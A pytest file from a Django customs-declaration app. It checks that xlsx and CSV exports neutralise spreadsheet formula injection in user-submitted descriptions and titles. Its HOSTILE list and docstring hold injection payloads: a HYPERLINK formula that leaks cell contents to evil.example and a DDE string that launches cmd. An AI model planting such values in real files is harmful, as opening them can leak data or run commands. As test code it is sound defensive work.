"""Formula injection (issue 8, item 8): text that users send comes back as text in every export.

A description ``=HYPERLINK("http://evil.example/?"&A1,"x")`` sent through the API came back
as a live formula in items.xlsx; the 1.3 export wrote its cells the same way. Each produced
file is read back with openpyxl (no cell may be a formula) or as CSV (no cell may start like
one).
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from ecuapass.customs import excel
from ecuapass.customs.models import Dai, DaiItem
from ecuapass.customs.serializers import DaiSerializer
from ecuapass.customs.tests.test_editor import form_data
from ecuapass.edocs import registry, services
from ecuapass.edocs.models import EDocument
from tests.support.world import dai_payload

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-1+1 descuento",
    "@SUM(1+1)",
    "\t=1+1 tabulado",
]


def submit_through_the_api(party, descriptions):
    """The API's path: serializer, then submission."""
    payload = dai_payload(invoice="INJ-1")
    base = payload["items"][0]
    payload["items"] = [{**base, "descripcion": text} for text in descriptions]
    serializer = DaiSerializer(data=payload)
    assert serializer.is_valid(), serializer.errors
    return services.submit_payload(
        registry.get("DAI"),
        serializer.validated_data,
        raw=payload,
        user=party.user,
        oce=party.oce,
        channel="S",
    ).envio.document


def formulas(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_items_xlsx_writes_descriptions_as_text(oce_client, world):
    edoc = submit_through_the_api(world.importer, HOSTILE)
    stored = list(DaiItem.objects.filter(dai__edoc=edoc).order_by("numero"))
    assert [i.descripcion for i in stored] == [t.strip() for t in HOSTILE]
    response = oce_client(world.importer).get(f"/declaraciones/dai/{edoc.pk}/items.xlsx")
    assert response.status_code == 200
    assert formulas(response.content) == []
    ws = load_workbook(io.BytesIO(response.content)).active
    assert [row[1] for row in list(ws.values)[1:]] == [i.descripcion for i in stored]


def test_exported_items_import_back_unchanged(oce_client, world):
    """The escape is Excel's quote prefix, not an added character: a round trip keeps the text."""
    edoc = submit_through_the_api(world.importer, HOSTILE)
    client = oce_client(world.importer)
    exported = client.get(f"/declaraciones/dai/{edoc.pk}/items.xlsx").content
    upload = io.BytesIO(exported)
    upload.name = "items.xlsx"
    data = form_data([], accion="importar", **{"items-TOTAL_FORMS": "0"})
    data["archivo"] = upload
    assert client.post("/declaraciones/dai/nueva/", data).status_code == 302
    draft = Dai.objects.exclude(edoc=edoc).get()
    assert [i.descripcion for i in draft.items.order_by("numero")] == [t.strip() for t in HOSTILE]
    assert formulas(client.get(f"/declaraciones/dai/{draft.edoc_id}/items.xlsx").content) == []


def test_items_template_has_no_formula(oce_client, world):
    response = oce_client(world.importer).get("/declaraciones/dai/plantilla-items.xlsx")
    assert formulas(response.content) == [] and response["Content-Type"] == excel.XLSX


@pytest.fixture
def hostile_titles(world):
    """Documents whose text columns hold formulas (today the title comes from the document
    type; the export must not depend on that)."""
    for n, text in enumerate(HOSTILE):
        edoc = submit_through_the_api(world.importer, [f"item {n}"])
        EDocument.objects.filter(pk=edoc.pk).update(title=text, document_number=text[:30])
    return HOSTILE


def test_estados_xlsx_writes_text_as_text(oce_client, world, hostile_titles):
    response = oce_client(world.importer).get("/edocs/estados/?formato=xlsx")
    assert response.status_code == 200
    assert formulas(response.content) == []
    rows = list(load_workbook(io.BytesIO(response.content)).active.values)[1:]
    assert sorted(row[1] for row in rows) == sorted(hostile_titles)
    assert sorted(row[6] for row in rows) == sorted(t[:30] for t in hostile_titles)


def test_estados_csv_escapes_formula_starts(oce_client, world, hostile_titles):
    response = oce_client(world.importer).get("/edocs/estados/?formato=csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert sorted(row[1] for row in rows) == sorted("'" + t for t in hostile_titles)
    assert sorted(row[6] for row in rows) == sorted("'" + t[:30] for t in hostile_titles)
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row if cell.startswith(starts)]
